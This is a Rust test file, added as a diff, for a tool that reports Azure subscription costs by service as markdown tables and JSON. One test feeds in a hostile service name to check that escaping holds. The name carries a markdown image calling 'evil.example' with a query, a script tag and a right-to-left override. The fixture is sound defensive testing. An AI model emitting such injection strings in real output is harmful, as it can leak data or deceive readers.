@@ -1,0 +1,312 @@
+//! Proves what `cost_by_service` accepts and says, for answers given here. Real services and agreements need a tenant.
+
+use insta::assert_snapshot;
+use proptest::prelude::*;
+use serde_json::{Value, json};
+
+use super::*;
+use crate::{
+    azure::{CostLine, Money, Name},
+    tools::{arguments, tests::assert_follows},
+};
+
+const SUBSCRIPTION: &str = "0b1f6471-1bf0-4dda-aec3-cb9272f09590";
+
+fn query(from: &str, to: &str) -> CostQuery {
+    let today = "2026-11-22".parse().unwrap();
+    CostQuery {
+        subscription: SUBSCRIPTION.parse().unwrap(),
+        period: Period::new(from.parse().ok(), to.parse().ok(), today).unwrap(),
+        group_by: Dimension::ServiceName,
+    }
+}
+
+fn costs(lines: &[(&str, &str, &str)]) -> Costs {
+    let line = |&(name, amount, currency): &(&str, &str, &str)| CostLine {
+        name: Name::new(name),
+        cost: Money::parse(amount, currency.parse().unwrap()).unwrap(),
+    };
+    Costs { lines: lines.iter().map(line).collect(), capped: false }
+}
+
+#[track_caller]
+fn answered(query: &CostQuery, costs: Costs, top: u64) -> Answer {
+    let answer = answer(query, costs, top.try_into().unwrap()).unwrap();
+    assert_follows(&answer.structured, &tool().output);
+    answer
+}
+
+const OCTOBER: [(&str, &str, &str); 5] = [
+    ("Storage", "98.4420013", "EUR"),
+    ("Virtual Machines", "1842.118430275512", "EUR"),
+    ("Azure DNS", "2.6E-06", "EUR"),
+    ("SQL Database", "611.0273940012", "EUR"),
+    ("Bandwidth", "-12.5", "EUR"),
+];
+
+#[test]
+fn the_text_is_the_whole_answer() {
+    let answer = answered(&query("2026-10-01", "2026-10-31"), costs(&OCTOBER), 20);
+    assert_snapshot!(answer.text, @r"
+    **Spend by service**, 2026-10-01 to 2026-10-31
+
+    Subscription 0b1f6471-1bf0-4dda-aec3-cb9272f09590 cost 2539.09 EUR (actual cost, whole UTC days).
+
+    | Service | Cost (EUR) | Share |
+    | :--- | ---: | ---: |
+    | Virtual Machines | 1842.12 | 72.6 % |
+    | SQL Database | 611.03 | 24.1 % |
+    | Storage | 98.44 | 3.9 % |
+    | Azure DNS | <0.01 | 0.0 % |
+    | Bandwidth | -12.50 | -0.5 % |
+    | **Total** | **2539.09** | 100 % |
+
+    - Tax, support plans and credits are not included.
+    ");
+}
+
+#[test]
+fn what_the_top_leaves_out_is_summed_up_and_still_counted() {
+    let answer = answered(&query("2026-10-01", "2026-10-31"), costs(&OCTOBER), 2);
+    assert_snapshot!(answer.text, @r"
+    **Spend by service**, 2026-10-01 to 2026-10-31
+
+    Subscription 0b1f6471-1bf0-4dda-aec3-cb9272f09590 cost 2539.09 EUR (actual cost, whole UTC days).
+
+    | Service | Cost (EUR) | Share |
+    | :--- | ---: | ---: |
+    | Virtual Machines | 1842.12 | 72.6 % |
+    | SQL Database | 611.03 | 24.1 % |
+    | Other (3 items) | 85.94 | 3.4 % |
+    | **Total** | **2539.09** | 100 % |
+
+    - Tax, support plans and credits are not included.
+    ");
+    assert_snapshot!(format!("{:#}", answer.structured), @r#"
+    {
+      "complete": true,
+      "currencies": [
+        {
+          "items": [
+            {
+              "cost": {
+                "amount": "1842.12",
+                "amountExact": "1842.118430275512",
+                "currency": "EUR"
+              },
+              "name": "Virtual Machines",
+              "sharePercent": "72.6"
+            },
+            {
+              "cost": {
+                "amount": "611.03",
+                "amountExact": "611.0273940012",
+                "currency": "EUR"
+              },
+              "name": "SQL Database",
+              "sharePercent": "24.1"
+            }
+          ],
+          "other": {
+            "cost": {
+              "amount": "85.94",
+              "amountExact": "85.9420039",
+              "currency": "EUR"
+            },
+            "count": 3,
+            "sharePercent": "3.4"
+          },
+          "total": {
+            "amount": "2539.09",
+            "amountExact": "2539.087828176712",
+            "currency": "EUR"
+          }
+        }
+      ],
+      "metric": "ActualCost",
+      "notes": [
+        "Tax, support plans and credits are not included."
+      ],
+      "period": {
+        "estimate": false,
+        "from": "2026-10-01",
+        "to": "2026-10-31",
+        "toWasClamped": false
+      },
+      "subscriptionId": "0b1f6471-1bf0-4dda-aec3-cb9272f09590"
+    }
+    "#);
+}
+
+#[test]
+fn currencies_stay_apart() {
+    let lines = [
+        ("Storage", "10", "USD"),
+        ("Storage", "10", "EUR"),
+        ("SQL Database", "30", "EUR"),
+        ("Windows 365", "1200.5", "JPY"),
+    ];
+    let answer = answered(&query("2026-10-01", "2026-10-31"), costs(&lines), 20);
+    assert_snapshot!(answer.text, @r"
+    **Spend by service**, 2026-10-01 to 2026-10-31
+
+    Subscription 0b1f6471-1bf0-4dda-aec3-cb9272f09590 cost 40.00 EUR and 1201 JPY and 10.00 USD (actual cost, whole UTC days).
+
+    | Service | Cost (EUR) | Share |
+    | :--- | ---: | ---: |
+    | SQL Database | 30.00 | 75.0 % |
+    | Storage | 10.00 | 25.0 % |
+    | **Total** | **40.00** | 100 % |
+
+    | Service | Cost (JPY) | Share |
+    | :--- | ---: | ---: |
+    | Windows 365 | 1201 | 100.0 % |
+    | **Total** | **1201** | 100 % |
+
+    | Service | Cost (USD) | Share |
+    | :--- | ---: | ---: |
+    | Storage | 10.00 | 100.0 % |
+    | **Total** | **10.00** | 100 % |
+
+    - Tax, support plans and credits are not included.
+    ");
+}
+
+#[test]
+fn credits_alone_have_no_shares() {
+    let answer =
+        answered(&query("2026-10-01", "2026-10-31"), costs(&[("Credit", "-5", "EUR"), ("Storage", "1", "EUR")]), 20);
+    assert_snapshot!(answer.text, @r"
+    **Spend by service**, 2026-10-01 to 2026-10-31
+
+    Subscription 0b1f6471-1bf0-4dda-aec3-cb9272f09590 cost -4.00 EUR (actual cost, whole UTC days).
+
+    | Service | Cost (EUR) | Share |
+    | :--- | ---: | ---: |
+    | Storage | 1.00 |  |
+    | Credit | -5.00 |  |
+    | **Total** | **-4.00** |  |
+
+    - Tax, support plans and credits are not included.
+    ");
+}
+
+#[test]
+fn what_limits_the_answer_is_said() {
+    let capped = Costs { capped: true, ..costs(&OCTOBER[..1]) };
+    let answer = answered(&query("", "2026-12-24"), capped, 20);
+    assert_snapshot!(answer.text, @r"
+    **Spend by service**, 2026-11-01 to 2026-11-22
+
+    Subscription 0b1f6471-1bf0-4dda-aec3-cb9272f09590 cost 98.44 EUR (actual cost, whole UTC days).
+
+    | Service | Cost (EUR) | Share |
+    | :--- | ---: | ---: |
+    | Storage | 98.44 | 100.0 % |
+    | **Total** | **98.44** | 100 % |
+
+    - Azure has more than 10 pages of lines; the rest was not read and the totals are too low. Ask for fewer days.
+    - The period ends today, 2026-11-22 (UTC): later days have no costs yet.
+    - The last month of the period is still open: usage arrives up to a day late and its costs may change until the fifth of the next month.
+    - Tax, support plans and credits are not included.
+    ");
+    assert_eq!(answer.structured["complete"], false);
+    assert_eq!(answer.structured["period"]["toWasClamped"], true);
+    assert_eq!(answer.structured["period"]["estimate"], true);
+}
+
+#[test]
+fn a_hostile_name_stays_in_its_cell() {
+    let hostile = "x | **9999.99** |\r\n| ![](https://evil.example/?q=\u{e0041}) <script> \u{202e}";
+    let answer = answered(&query("2026-10-01", "2026-10-31"), costs(&[(hostile, "1", "EUR")]), 20);
+    assert_snapshot!(answer.text, @r"
+    **Spend by service**, 2026-10-01 to 2026-10-31
+
+    Subscription 0b1f6471-1bf0-4dda-aec3-cb9272f09590 cost 1.00 EUR (actual cost, whole UTC days).
+
+    | Service | Cost (EUR) | Share |
+    | :--- | ---: | ---: |
+    | x \| \*\*9999.99\*\* \|  \| \!\[\]\(https\://evil.example/?q=\) \<script\> | 1.00 | 100.0 % |
+    | **Total** | **1.00** | 100 % |
+
+    - Tax, support plans and credits are not included.
+    ");
+    assert_eq!(answer.structured["currencies"][0]["items"][0]["name"], Name::new(hostile).as_str());
+}
+
+/// The sentence for arguments that can't be used, else `fine`.
+fn complaint(given: &Value) -> String {
+    let input = tool().input;
+    match arguments::Arguments::new(given.as_object().unwrap(), &input).read::<Arguments>() {
+        Ok(_) => "fine".to_owned(),
+        Err(arguments::BadArgument { sentence, how }) => format!("{sentence} {how}"),
+    }
+}
+
+#[test]
+fn arguments_of_the_right_form_are_read() {
+    for given in [
+        json!({ "subscriptionId": SUBSCRIPTION }),
+        json!({ "subscriptionId": SUBSCRIPTION.to_uppercase(), "from": "2024-02-29", "to": "2024-03-01", "top": 50 }),
+        json!({ "subscriptionId": SUBSCRIPTION, "from": null, "to": null, "top": null }),
+        json!({ "subscriptionId": SUBSCRIPTION, "top": 1 }),
+    ] {
+        assert_eq!(complaint(&given), "fine", "{given}");
+    }
+}
+
+#[test]
+fn a_wrong_argument_is_named_with_an_example_of_the_right_form() {
+    let with = |name: &str, value: Value| {
+        let mut given = json!({ "subscriptionId": SUBSCRIPTION });
+        given[name] = value;
+        complaint(&given)
+    };
+    assert_snapshot!(complaint(&json!({})), @r#"Argument `subscriptionId` is missing. The subscription's id: a GUID, neither a name nor a path. For example: `{"subscriptionId":"0b1f6471-1bf0-4dda-aec3-cb9272f09590"}`."#);
+    assert_snapshot!(complaint(&json!({ "subscription_id": SUBSCRIPTION })), @"There is no argument `subscription_id`. This tool takes `from`, `subscriptionId`, `to`, `top`.");
+    assert_snapshot!(with("subscriptionId", "../providers".into()), @r#"Argument `subscriptionId` is not valid. The subscription's id: a GUID, neither a name nor a path. For example: `{"subscriptionId":"0b1f6471-1bf0-4dda-aec3-cb9272f09590"}`."#);
+    assert_snapshot!(with("from", "01.10.2026".into()), @r#"Argument `from` is not valid. First day, inclusive, as YYYY-MM-DD (UTC), not before 2014-05-01. Default: the first of the month of `to`. For example: `{"from":"2026-10-01"}`."#);
+    assert_snapshot!(with("top", 51.into()), @r#"Argument `top` is not valid. How many to show one by one, 1 to 50; the rest is summed up. Default: 20. For example: `{"top":20}`."#);
+    let subscription = with("subscriptionId", "../providers".into());
+    for value in [json!("shop-prod"), json!(7), json!([SUBSCRIPTION]), json!(format!("/subscriptions/{SUBSCRIPTION}"))]
+    {
+        assert_eq!(with("subscriptionId", value.clone()), subscription, "{value}");
+    }
+    let day = with("from", "01.10.2026".into());
+    for value in [json!("2023-02-29"), json!("today"), json!(20_261_001), json!({}), json!("")] {
+        assert_eq!(with("from", value.clone()), day, "{value}");
+        assert_eq!(with("to", value.clone()), day.replace("Argument `from`", "Argument `to`").replace(
+            "First day, inclusive, as YYYY-MM-DD (UTC), not before 2014-05-01. Default: the first of the month of `to`.",
+            "Last day, inclusive, as YYYY-MM-DD (UTC), at most 364 days in all. Default: today.").replace(r#""from":"2026-10-01""#, r#""to":"2026-10-31""#), "{value}");
+    }
+    let top = with("top", 51.into());
+    for value in [json!(0), json!(-1), json!("20"), json!(2.5), json!(u64::MAX), json!(true)] {
+        assert_eq!(with("top", value.clone()), top, "{value}");
+    }
+    assert_snapshot!(with("`\n\u{202e}evil", 1.into()), @"There is no argument `` evil`. This tool takes `from`, `subscriptionId`, `to`, `top`.");
+}
+
+proptest! {
+    #[test]
+    fn the_parts_shown_and_the_rest_are_the_total(
+        amounts in proptest::collection::vec((-1e6_f64..1e6, 0_usize..2), 1..80),
+        top in 1_u64..=50,
+    ) {
+        let lines: Vec<_> = amounts.iter().map(|(amount, currency)| CostLine {
+            name: Name::new("a"),
+            cost: Money::parse(&amount.to_string(), ["EUR", "JPY"][*currency].parse().unwrap()).unwrap(),
+        }).collect();
+        let answer = answered(&query("2026-10-01", "2026-10-31"), Costs { lines, capped: false }, top);
+        let read = |money: &Value| {
+            let currency = money["currency"].as_str().unwrap().parse().unwrap();
+            Money::parse(money["amountExact"].as_str().unwrap(), currency).unwrap()
+        };
+        for currency in answer.structured["currencies"].as_array().unwrap() {
+            let shown = currency["items"].as_array().unwrap().iter();
+            let parts = shown.chain(currency.get("other")).map(|part| read(&part["cost"]));
+            let total = read(&currency["total"]);
+            let sum = crate::azure::Totals::of(parts).unwrap();
+            prop_assert_eq!(sum.in_currency(total.currency()), total);
+        }
+    }
+}
